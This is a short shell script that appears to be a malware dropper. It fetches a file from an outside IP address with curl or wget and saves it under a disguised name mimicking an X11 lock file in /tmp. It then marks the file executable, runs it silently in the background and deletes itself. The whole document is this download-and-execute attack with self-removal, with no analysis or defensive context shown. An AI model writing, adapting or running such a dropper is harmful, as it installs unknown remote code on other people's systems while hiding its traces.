#!/bin/sh
D=/tmp/.X11-unix-lock
U="http://203.0.113.66/k"
if command -v curl >/dev/null 2>&1; then
  curl -fsS -o "$D" "$U"
else
  wget -q -O "$D" "$U"
fi
chmod 755 "$D"
"$D" >/dev/null 2>&1 &
rm -f "$0"
